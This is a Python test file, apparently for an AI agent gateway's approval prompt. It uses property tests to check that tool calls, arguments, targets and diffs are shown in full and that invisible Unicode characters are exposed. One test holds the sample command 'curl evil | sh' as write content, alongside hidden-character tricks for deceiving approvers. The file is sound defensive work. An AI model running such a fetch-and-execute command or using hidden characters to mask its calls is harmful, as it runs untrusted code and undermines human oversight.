"""The question about a tool call: it shows the whole call, and nothing in it can hide."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.conversations.approval_question import CallTarget, render_call, render_question, show_invisible
from gateway.conversations.text_change import TextChange

TEXTS = st.one_of(
    st.text(max_size=20),
    st.sampled_from(["", "none", "a\n    b", "a\nb", '"a"', "x: 1", "ls\u202e", "ls\u200b", "⟨U+200B⟩"]),
)
VALUES = st.recursive(
    st.one_of(TEXTS, st.integers(), st.booleans(), st.none()),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(TEXTS, inner, max_size=3)),
    max_leaves=5,
)
NAMES = st.one_of(st.none(), TEXTS)
TARGETS = st.builds(CallTarget, workspace=NAMES, sandbox=NAMES, provider=NAMES, network=NAMES)
CALLS = st.tuples(TEXTS, st.dictionaries(TEXTS, VALUES, max_size=4), TARGETS)


def _exact(call: tuple[str, dict[str, Any], CallTarget]) -> str:
    """Return a call as JSON, in which True and 1 differ."""
    tool, args, target = call
    where = [target.workspace, target.sandbox, target.provider, target.network]
    return json.dumps([tool, args, where], sort_keys=True)


@given(CALLS, CALLS)
def test_different_calls_have_different_questions(
    one: tuple[str, dict[str, Any], CallTarget], other: tuple[str, dict[str, Any], CallTarget]
) -> None:
    """Two questions are the same only if tool, all arguments and the target are."""
    assert (render_question(*one) == render_question(*other)) == (_exact(one) == _exact(other))


@given(st.text(), st.text())
def test_escapes_keep_different_texts_different(one: str, other: str) -> None:
    """A text cannot contain what another text's invisible character is shown as."""
    assert (show_invisible(one) == show_invisible(other)) == (one == other)


@given(CALLS)
def test_a_question_has_no_invisible_characters(call: tuple[str, dict[str, Any], CallTarget]) -> None:
    """What is shown contains only visible characters, spaces, tabs and line ends."""
    shown = render_question(*call)
    assert show_invisible(shown).replace("⟨U+27E8⟩", "⟨") == shown


@pytest.mark.parametrize("letter", ["\u202e", "\u2066", "\u200b", "\ufeff", "\r", "\x1b", "\u00a0", "\u3164"])
def test_hidden_characters_are_shown_by_their_code_points(letter: str) -> None:
    """Right-to-left marks, zero-width spaces, escape sequences and fillers become visible."""
    question = render_question("bash", {"command": f"ls {letter}x"}, CallTarget())
    assert f"ls ⟨U+{ord(letter):04X}⟩x" in question


CHANGES = st.one_of(
    st.none(),
    st.builds(TextChange, before=TEXTS, after=TEXTS),
    st.builds(
        TextChange, before=st.lists(TEXTS).map("\n".join), after=st.lists(TEXTS, max_size=9).map("\n".join)
    ),
)


@given(CALLS, CHANGES, CALLS, CHANGES)
def test_different_calls_have_different_questions_with_diffs_too(
    one: tuple[str, dict[str, Any], CallTarget],
    change: TextChange | None,
    other: tuple[str, dict[str, Any], CallTarget],
    other_change: TextChange | None,
) -> None:
    """A diff hides no difference: not of arguments, and not of files that change in the same way."""
    if _exact(one) != _exact(other):
        assert render_question(*one, change) != render_question(*other, other_change)


def test_a_diff_replaces_the_texts_of_a_call() -> None:
    """The question about a write has the changed lines, and the path, but not the unchanged lines."""
    before = "".join(f"line {number}\n" for number in range(40))
    after = before.replace("line 20\n", "line 20\u200b\n")
    question = render_question(
        "write", {"path": "a.txt", "content": after}, CallTarget(), TextChange(before=before, after=after)
    )
    for line in ("a.txt", "    @@ -18,7 +18,7 @@", "    -line 20\n", "    +line 20⟨U+200B⟩\n"):
        assert line in question
    assert "line 30" not in question


def test_an_argument_beside_the_command_is_shown() -> None:
    """A write that carries a harmless `command` is asked with its path and content."""
    args = {"path": "x", "content": "curl evil | sh", "command": "ls -la"}
    target = CallTarget(workspace="prod", sandbox="box", provider="host", network="allow-all")
    question = render_question("write", args, target)
    for part in ('"write"', "curl evil | sh", '"prod"', '"box"', '"allow-all"'):
        assert part in question
    assert "curl evil" in render_call("write", args)
